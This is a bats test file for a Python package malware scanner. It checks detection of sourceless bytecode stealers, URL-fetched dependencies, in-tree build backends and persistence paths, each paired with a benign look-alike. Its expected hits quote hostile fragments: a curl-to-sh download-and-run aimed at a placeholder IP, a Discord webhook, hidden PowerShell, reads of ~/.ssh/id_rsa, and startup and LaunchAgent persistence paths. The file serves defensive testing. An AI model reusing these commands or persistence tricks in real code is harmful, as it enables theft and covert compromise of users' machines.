#!/usr/bin/env bats
# 49-recall2.bats: more techniques of recent malware (issue 11, part 2) — sourceless .pyc
# files, dependencies fetched from URLs, in-tree build backends, persistence paths built
# with os.path.join/pathlib — each with the benign look-alike that must not fire.

load helpers/common
load helpers/parse
load helpers/analyze

FIX="$BATS_TEST_DIRNAME/fixtures/recall2"

setup() {
	cd "$BATS_TEST_TMPDIR"
}

# tree_hits DIR [DETECTION...]: "path line detection name context score" of the hits for a directory.
tree_hits() {
	local dir=$1
	shift
	local want
	want=$(printf '%s\n' "$@" | jq -R . | jq -sc 'map(select(. != ""))')
	aura-fetch "$dir" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --argjson w "$want" 'select(.type == "hit" and (($w | length) == 0 or (.detection as $d | $w | index($d)))) |
			"\(.path) \(.line) \(.detection) \(.name) \(.context) \(.score)"' | sort -u
}

# pyc_record FILE PATH: FILE as a `file` record of kind pyc named PATH.
pyc_record() {
	jq -nc --arg p "$2" --arg c "$(base64 -w0 "$1")" '{type: "file", v: 1, artifact: "a", id: "a:0",
		index: 0, path: $p, size: 1, sha256: "x", mode: 420, executable: false, kind: "pyc",
		content: $c, content_encoding: "base64"}'
}

@test "a .pyc without source: its calls and strings are recovered and analysed, the hiding is UnexplainedBytecode" {
	mkdir -p p/pkg
	: > p/pkg/__init__.py
	cp "$FIX/stealer.pyc" p/pkg/core.pyc
	run tree_hits p
	assert_line "pkg/core.pyc 0 UnexplainedBytecode pyc.no_source import 60"
	assert_line --regexp '^pkg/core.pyc [0-9]+ WebhookEndpoint https://discord.com/api/webhooks/[^ ]+ import 120$'
	assert_line --regexp '^pkg/core.pyc [0-9]+ DownloadAndRun curl -s http://203.0.113.9/x \| sh import 70$'
	assert_line --regexp '^pkg/core.pyc [0-9]+ ShellCommand os.system import 50$'
	assert_line --regexp '^pkg/core.pyc [0-9]+ CredentialPath .ssh/id_rsa import [0-9]+$'
	# the decoded exec payload and the process started from a method are there too
	assert_line --regexp '^pkg/core.pyc [0-9]+ ObfuscatedCodeExecution builtins.exec import 100$'
	assert_line --regexp '^pkg/core.pyc [0-9]+ DownloadAndRun powershell -w hidden function [0-9]+$'
}

@test "the recovered source is in the ast record and quoted as evidence (not the .pyc's bytes)" {
	pyc_record "$FIX/stealer.pyc" pkg/core.pyc > rec.json
	run jq -r 'select(.type == "ast") | .recovered_from, .pyc_python, .recovered_source' < <(aura-parse < rec.json)
	assert_line pyc
	assert_line 3.11
	assert_line "os.system('curl -s http://203.0.113.9/x | sh')"
	assert_line "def steal(path):"
	assert_line "class Runner:"
	run jq -r 'select(.type == "hit" and .detection == "ShellCommand") | .evidence' \
		< <(aura-parse < rec.json | aura-rewrite | aura-analyze)
	assert_line "os.system('curl -s http://203.0.113.9/x | sh')"
}

@test "look-alike: a .pyc beside its .py (a build leftover) is no UnexplainedBytecode, and a benign module recovers nothing to score" {
	mkdir -p p/pkg/__pycache__
	cp "$FIX/benign.py" p/pkg/units.py
	cp "$FIX/benign.pyc" p/pkg/__pycache__/units.cpython-311.pyc
	cp "$FIX/benign.pyc" p/pkg/helper.pyc
	cp "$FIX/benign.py" p/pkg/helper.py
	run tree_hits p
	assert_output ""
}

@test "an orphan in __pycache__ (its .py gone) is UnexplainedBytecode too; under tests/ it weighs almost nothing" {
	mkdir -p p/pkg/__pycache__ p/tests
	cp "$FIX/benign.pyc" p/pkg/__pycache__/units.cpython-311.pyc
	cp "$FIX/benign.pyc" p/tests/fixture.pyc
	run tree_hits p UnexplainedBytecode
	assert_output "$(printf '%s\n' "pkg/__pycache__/units.cpython-311.pyc 0 UnexplainedBytecode pyc.no_source import 60" \
		"tests/fixture.pyc 0 UnexplainedBytecode pyc.no_source function 5")"
}

@test "hostile bytecode: a cycle, 1,000 levels of nesting, a cut file and Python 2 are each one precise UnreadableBytecode hit" {
	for f in cycle deep truncated py27; do
		pyc_record "$FIX/$f.pyc" "pkg/$f.pyc"
	done > recs.ndjson
	run -0 aura-parse < recs.ndjson
	run jq -r 'select(.type != "file") | "\(.type) \(.path) \(.detection) \(.score) \(.message)"' <<<"$output"
	assert_output "$(printf '%s\n' \
		"hit pkg/cycle.pyc UnreadableBytecode 10 CPython 3.11 bytecode not recovered: the marshal data holds no code object" \
		"hit pkg/deep.pyc UnreadableBytecode 10 CPython 3.11 bytecode not recovered: marshal data nested more than 64 levels" \
		"hit pkg/truncated.pyc UnreadableBytecode 10 CPython 3.11 bytecode not recovered: length 98 runs past the end of the data" \
		"hit pkg/py27.pyc UnreadableBytecode 10 Python bytecode not recovered: magic number 62211 is no CPython 3.7-3.13 .pyc")"
}

@test "every cut and flipped byte of a real .pyc is read without a crash, an ast or a precise hit each" {
	python3 - "$FIX/stealer.pyc" <<'PY' > recs.ndjson
import base64, json, random, sys
random.seed(11)
data = open(sys.argv[1], "rb").read()
for k in range(300):
    d = bytearray(data)
    if k % 2:
        d = d[:random.randrange(16, len(d))]
    else:
        for _ in range(random.randrange(1, 8)):
            d[random.randrange(16, len(d))] = random.randrange(256)
    print(json.dumps({"type": "file", "v": 1, "artifact": "a", "id": "a:%d" % k, "index": k,
                      "path": "m%d.pyc" % k, "size": len(d), "sha256": "x", "mode": 420,
                      "executable": False, "kind": "pyc", "content_encoding": "base64",
                      "content": base64.b64encode(bytes(d)).decode()}))
PY
	run -0 aura-parse < recs.ndjson
	n=$(jq -r 'select(.type == "ast" or (.type == "hit" and (.detection == "UnreadableBytecode" or .detection == "BytecodeCut"))) | .file' <<<"$output" | sort -u | wc -l)
	assert_equal "$n" 300
}

@test "dependencies from URLs in setup.cfg, pyproject.toml, PKG-INFO, requires.txt and dependency_links are DirectURLDependency" {
	mkdir -p p/p.egg-info
	cat > p/setup.cfg <<'CFG'
[metadata]
name = p
[options]
install_requires =
    requests>=2
    helper @ https://files.example/helper-1.0.tar.gz
dependency_links = https://files.example/links/
    http://203.0.113.9/simple/
CFG
	cat > p/pyproject.toml <<'TOML'
[project]
name = "p"
dependencies = ["six", "evil[x] @ git+https://git.example/evil.git@main ; python_version>'3'"]
[tool.poetry.dependencies]
tool = { git = "https://git.example/tool.git", branch = "main" }
TOML
	printf 'Metadata-Version: 2.1\nName: p\nRequires-Dist: pay @ https://files.example/pay.whl\n' > p/PKG-INFO
	printf 'six\nlib @ file:///tmp/lib.tar.gz\n' > p/p.egg-info/requires.txt
	printf 'from setuptools import setup\nsetup(name="p", dependency_links=["https://files.example/dl/p-1.0.tar.gz"])\n' > p/setup.py
	run tree_hits p DirectURLDependency
	assert_output "$(printf '%s\n' \
		"PKG-INFO 3 DirectURLDependency pay @ https://files.example/pay.whl install 60" \
		"p.egg-info/requires.txt 2 DirectURLDependency lib @ file:///tmp/lib.tar.gz install 60" \
		"pyproject.toml 3 DirectURLDependency evil[x] @ git+https://git.example/evil.git@main install 60" \
		"pyproject.toml 5 DirectURLDependency tool @ https://git.example/tool.git install 60" \
		"setup.cfg 6 DirectURLDependency helper @ https://files.example/helper-1.0.tar.gz install 60" \
		"setup.cfg 7 DirectURLDependency https://files.example/links/ install 60" \
		"setup.cfg 8 DirectURLDependency http://203.0.113.9/simple/ install 60" \
		"setup.py 2 DirectURLDependency https://files.example/dl/p-1.0.tar.gz install 60")"
}

@test "look-alike: project URLs, e-mail addresses, index requirements and a nested project's URL dependency are not the package's" {
	mkdir -p p/vendor/sub
	cat > p/setup.cfg <<'CFG'
[metadata]
name = p
url = https://github.com/x/p
author_email = me@example.org
project_urls =
    Docs = https://p.example/docs
[options]
install_requires =
    requests>=2
    six; python_version < "3"
CFG
	cat > p/pyproject.toml <<'TOML'
[project]
name = "p"
authors = [{name = "Me", email = "me@example.org"}]
dependencies = ["requests (>=2)", "foo; extra == 'x'"]
[project.urls]
Homepage = "https://p.example"
[tool.poetry.dependencies]
ok = { version = "1.0" }
TOML
	printf 'Metadata-Version: 2.1\nName: p\nHome-page: https://p.example\nProject-URL: Docs, https://p.example/docs\nAuthor-email: me@example.org\nRequires-Dist: requests (>=2)\n' > p/PKG-INFO
	printf 'from setuptools import setup\nsetup(name="p", url="https://github.com/x/p", download_url="https://p.example/p.tar.gz")\n' > p/setup.py
	printf '[options]\ninstall_requires =\n    nested @ https://x.example/n.tgz\n' > p/vendor/sub/setup.cfg
	run tree_hits p DirectURLDependency
	assert_output "vendor/sub/setup.cfg 3 DirectURLDependency nested @ https://x.example/n.tgz function 5"
}

@test "an in-tree build backend whose backend-path spans lines: its top level runs at install" {
	mkdir -p pkg/_build/mybackend
	printf '[build-system]\nrequires = []\nbuild-backend = "mybackend"\nbackend-path = [\n    "_build",\n]\n' > pkg/pyproject.toml
	printf 'import os\nos.system("id")\n' > pkg/_build/mybackend/__init__.py
	run tree_hits pkg ShellCommand
	assert_line "_build/mybackend/__init__.py 2 ShellCommand os.system install 100"
}

@test "look-alike: a backend-path array in another table, with an installed backend, leaves the tree's module at import" {
	mkdir -p pkg/_build/mybackend
	printf '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "mybackend"\n[tool.other]\nbackend-path = [\n    "_build",\n]\n' > pkg/pyproject.toml
	printf 'import os\nos.system("id")\n' > pkg/_build/mybackend/__init__.py
	run tree_hits pkg ShellCommand
	assert_output "_build/mybackend/__init__.py 2 ShellCommand os.system import 50"
}

@test "persistence paths built with os.path.join and pathlib fold into templates the Persistence rule reads" {
	py m.py <<'PY'
import os, shutil
from pathlib import Path
startup = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
shutil.copy("x.exe", startup)
rc = Path.home() / ".bashrc"
unit = Path.home().joinpath(".config", "systemd", "user", "upd.service")
profile = os.path.join(os.path.expanduser("~"), ".bash_profile")
agent = os.path.join(os.getenv("HOME"), "Library", "LaunchAgents", "com.x.plist")
zrc = Path(os.environ.get("USERPROFILE"), ".zprofile")
PY
	run dets m.py Persistence
	assert_output "$(printf '%s\n' \
		"3 Persistence Start Menu/Programs/Startup import 40" \
		"5 Persistence ~/.bashrc import 40" \
		"6 Persistence .config/systemd/user/ import 40" \
		"7 Persistence ~/.bash_profile import 40" \
		"8 Persistence Library/LaunchAgents import 40" \
		"9 Persistence ~/.zprofile import 40")"
	run jq -r 'select(.type == "ast") | .tree.body[2].value | "\(._value) \(._origin.rules | join(","))"' \
		< <(file_record m.py | aura-parse | aura-rewrite)
	assert_output "%APPDATA%/Microsoft/Windows/Start Menu/Programs/Startup fold:path"
}

@test "look-alike: config and cache paths, other environment variables and str / str fold to no persistence" {
	py m.py <<'PY'
import os
from pathlib import Path
cfg = Path.home() / ".config" / "mytool" / "settings.toml"
cache = os.path.join(os.environ["LOCALAPPDATA"], "mytool", "cache")
token = os.environ["GITHUB_TOKEN"]
ci = os.getenv("CI") == "true"
half = "a" / "b" if False else None
PY
	run dets m.py Persistence
	assert_output ""
	run jq -r 'select(.type == "ast") | .tree.body[] | select(._type == "Assign") | .value._value // "unknown"' \
		< <(file_record m.py | aura-parse | aura-rewrite)
	assert_output "$(printf '%s\n' "~/.config/mytool/settings.toml" "%LOCALAPPDATA%/mytool/cache" unknown unknown unknown)"
}

@test "look-alike: URL requirements in development tables (PEP 735 groups, poetry dev groups, tox) are not installed with the package" {
	mkdir -p p
	cat > p/pyproject.toml <<'TOML'
[project]
name = "p"
dependencies = ["six"]
[dependency-groups]
doc = ["sphinx-csharp @ git+https://github.com/x/sphinx-csharp.git"]
[tool.poetry.group.dev.dependencies]
tool = { git = "https://git.example/tool.git" }
TOML
	printf '[options]\ninstall_requires = six\n[tox:tox]\ndeps =\n    helper @ https://files.example/h.tar.gz\n' > p/setup.cfg
	run tree_hits p DirectURLDependency
	assert_output ""
}
